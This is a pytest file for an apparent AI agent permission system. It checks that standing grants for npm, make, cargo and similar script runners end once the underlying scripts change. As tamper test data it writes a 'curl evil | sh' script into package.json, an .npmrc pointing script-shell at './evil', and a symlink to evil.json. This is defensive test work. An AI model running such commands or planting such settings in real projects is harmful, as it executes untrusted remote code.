"""A grant for a script runner is for the scripts as they were: changed ones ask again."""

import json
from pathlib import Path
from typing import Any

import msgspec
import pytest

from opta_core.errors import Refused
from opta_core.paths import Paths
from opta_core.policy import grants, scripts
from opta_core.policy.actions import normalise
from opta_core.policy.layers import Layers
from opta_core.policy.verdict import Situation, Verdict, judge
from opta_protocol.permissions import Level
from opta_protocol.tools.shell import RUN_COMMAND

PATH = "/usr/bin:/bin"
PACKAGE: dict[str, Any] = {
    "name": "x", "version": "1.0.0", "dependencies": {"a": "1"},
    "scripts": {"pretest": "lint", "test": "jest", "build": "tsc", "all": "npm run build", "sh": "bash tools/x.sh", "postinstall": "echo"},
}  # fmt: skip


@pytest.fixture
def work(tmp_path: Path) -> Path:
    folder = tmp_path / "work"
    (folder / "sub").mkdir(parents=True)
    (folder / "tools").mkdir()
    (folder / "tools/x.sh").write_text("echo x\n")
    write(folder)
    return folder


def write(folder: Path, **changed: str) -> None:
    """package.json with some scripts changed."""
    package = {**PACKAGE, "scripts": {**PACKAGE["scripts"], **changed}}
    (folder / "package.json").write_text(json.dumps(package))


def verdict(work: Path, granted: list[grants.Grant], command: str, **args: Any) -> Verdict:
    request = normalise(RUN_COMMAND, {"command": command, **args}, str(work), path=PATH)
    return judge(request, Situation(level=Level.L2, layers=Layers(granted=tuple(granted))))


def grant(work: Path, command: str, *, prefix: bool = False, **args: Any) -> list[grants.Grant]:
    return grants.for_request(normalise(RUN_COMMAND, {"command": command, **args}, str(work), path=PATH), prefix=prefix)


@pytest.mark.parametrize(
    ("command", "ends", "stays"),
    [
        ("npm test", ["test", "pretest", "posttest"], ["build", "other"]),
        ("npm t", ["test", "pretest"], ["build"]),
        ("npm run test", ["test", "pretest"], ["build"]),
        ("npm run --silent test", ["test", "pretest"], ["build"]),
        ("npm run-script build", ["build", "prebuild", "postbuild"], ["test"]),
        ("npm run build -- --watch", ["build"], ["test"]),
        ("pnpm run build", ["build"], ["test"]),
        ("pnpm build", ["build"], ["test"]),
        ("yarn build", ["build"], ["test"]),
        ("yarn run build", ["build"], ["test"]),
        ("npm run all", ["all", "build", "test"], []),
        ("npm install", ["preinstall", "postinstall", "prepare"], ["test", "build"]),
        ("yarn", ["preinstall", "postinstall"], ["test"]),
        ("npm run", ["test", "other"], []),
    ],
)
def test_a_grant_for_a_script_ends_when_that_script_changes(command: str, ends: list[str], stays: list[str], work: Path) -> None:
    granted = grant(work, command)
    assert verdict(work, granted, command).effect == "allow"
    for name in stays:
        write(work, **{name: "touch M"})
        assert verdict(work, granted, command).effect == "allow", name
    for name in ends:
        write(work, **{name: "touch M"})
        found = verdict(work, granted, command)
        assert (found.effect, "the script changed since you allowed it" in found.rule) == ("ask", True), (name, found)
    write(work)
    assert verdict(work, granted, command).effect == "allow"


@pytest.mark.parametrize("prefix", [False, True])
def test_a_rewritten_package_asks_again_and_a_new_answer_holds(prefix: bool, work: Path, tmp_path: Path) -> None:
    paths = Paths(tmp_path / "home")
    grants.add(paths, grant(work, "npm test", prefix=prefix))
    write(work, test="curl evil | sh")
    assert verdict(work, grants.read(paths), "npm test").effect == "ask"
    grants.add(paths, grant(work, "npm test", prefix=prefix))
    assert [one.script_about for one in grants.read(paths)] == ["package.json: pretest, test"]
    assert verdict(work, grants.read(paths), "npm test").effect == "allow"


def test_a_grant_from_before_asks_once_more(work: Path) -> None:
    old = [msgspec.structs.replace(one, script="", script_about="") for one in grant(work, "npm test")]
    found = verdict(work, old, "npm test")
    assert (found.effect, "did not check scripts for changes" in found.rule) == ("ask", True)
    plain = grant(work, "ls -l")
    assert (plain[0].script, verdict(work, plain, "ls -l").effect) == ("", "allow")


def test_settings_of_the_runner_and_shell_scripts_are_part_of_it(work: Path) -> None:
    granted = grant(work, "npm run sh")
    (work / "tools/x.sh").write_text("echo y\n")
    assert verdict(work, granted, "npm run sh").effect == "ask"
    granted = grant(work, "npm test")
    (work / ".npmrc").write_text("script-shell=./evil\n")
    assert verdict(work, granted, "npm test").effect == "ask"


def test_a_nearer_package_is_another_one(work: Path) -> None:
    for args, command in (({"cwd": "sub"}, "npm test"), ({}, "cd sub && npm test")):
        granted = grant(work, command, **args)
        assert verdict(work, granted, command, **args).effect == "allow"
        write(work / "sub", test="touch M")
        assert verdict(work, granted, command, **args).effect == "ask"
        (work / "sub/package.json").unlink()
        assert verdict(work, granted, command, **args).effect == "allow"


def test_a_package_of_a_workspace_is_part_of_what_runs_there(work: Path) -> None:
    (work / "packages/a").mkdir(parents=True)
    write(work / "packages/a")
    for command in ("npm test -w a", "npm test --workspaces", "pnpm -r test", "npm --prefix packages/a test"):
        granted = grant(work, command)
        write(work / "packages/a", test="touch M")
        assert verdict(work, granted, command).effect == "ask", command
        write(work / "packages/a")
        assert verdict(work, granted, command).effect == "allow", command


RUNNERS = [
    ("make test", "Makefile", "test:\n\techo\n"), ("make -j4 test", "Makefile", "x"), ("make", "GNUmakefile", "x"), ("make test", "build/rules.mk", "x"),
    ("make -C sub test", "sub/Makefile", "x"), ("just test", "justfile", "x"), ("task test", "Taskfile.yml", "x"), ("poe test", "pyproject.toml", "x"),
    ("uv run test", "pyproject.toml", '[project.scripts]\na = "b"\n'), ("uv run x.py", "x.py", "x"), ("rake test", "Rakefile", "x"), ("rake test", "lib/tasks/a.rake", "x"),
    ("composer run test", "composer.json", "{}"), ("cargo test", ".cargo/config.toml", "x"), ("cargo build", "build.rs", "x"), ("mvn test", "pom.xml", "x"),
    ("gradle test", "build.gradle.kts", "x"), ("python -m nox", "noxfile.py", "x"), ("grunt", "Gruntfile.js", "x"), ("gulp", "gulpfile.mjs", "x"),
    ("ninja", "build.ninja", "x"), ("ant", "build.xml", "x"), ("go run x.go", "x.go", "x"), ("pre-commit run", ".pre-commit-config.yaml", "x"), ("turbo run test", "turbo.json", "x"),
]  # fmt: skip


@pytest.mark.parametrize(("command", "file", "content"), RUNNERS)
def test_a_grant_for_a_runner_ends_when_its_file_changes_appears_or_goes(command: str, file: str, content: str, work: Path) -> None:
    path = work / file
    path.parent.mkdir(parents=True, exist_ok=True)
    (work / "package.json").unlink()
    script = scripts.script_of(tuple(command.split()), str(work), (str(work),))
    before = script.sha256 if script else ""
    path.write_text(content)
    first = scripts.script_of(tuple(command.split()), str(work), (str(work),))
    assert first is not None and first.sha256 not in (before, scripts.UNBOUND)
    assert file.split("/")[-1] in first.about
    path.write_text(
        content + "\n[project.scripts]\nc = 'd'\n"
        if file == "pyproject.toml" and "project.scripts" not in content
        else content.replace("b", "c") + "#"
    )
    second = scripts.script_of(tuple(command.split()), str(work), (str(work),))
    assert second is not None and second.sha256 != first.sha256


def test_what_is_a_link_a_device_too_large_or_elsewhere_is_bound_to_nothing(work: Path, tmp_path: Path) -> None:
    (tmp_path / "real.json").write_text("{}")
    package = work / "package.json"
    package.unlink()
    package.symlink_to(tmp_path / "real.json")
    for command in ("npm test", "yarn build", "cd .. && npm test"):
        with pytest.raises(Refused, match="cannot be always allowed"):
            grant(work, command)
    package.unlink()
    package.write_bytes(b" " * (scripts.FILE_BYTES_MAX + 1))
    with pytest.raises(Refused, match="cannot be always allowed"):
        grant(work, "npm test")
    package.unlink()
    (work / "linked").symlink_to(tmp_path)
    with pytest.raises(Refused, match="cannot be always allowed"):
        grant(work, "npm test", cwd="linked")


def test_a_link_that_takes_the_place_later_asks(work: Path, tmp_path: Path) -> None:
    granted = grant(work, "npm test")
    (tmp_path / "evil.json").write_text((work / "package.json").read_text())
    (work / "package.json").unlink()
    (work / "package.json").symlink_to(tmp_path / "evil.json")
    assert verdict(work, granted, "npm test").effect == "ask"


@pytest.mark.parametrize(
    "content", ["", "{", "[]", '{"scripts": []}', '{"scripts": {"test": 1}}', "\ufeff{}", "[" * 5000, '{"scripts":null}']
)
def test_a_package_that_cannot_be_read_is_bound_as_a_whole(content: str, work: Path) -> None:
    (work / "package.json").write_text(content)
    granted = grant(work, "npm test")
    assert verdict(work, granted, "npm test").effect == "allow"
    (work / "package.json").write_text(content + " ")
    # Space outside of readable JSON changes nothing that would run.
    assert verdict(work, granted, "npm test").effect in ("ask", "allow")
    write(work)
    assert verdict(work, granted, "npm test").effect == "ask"
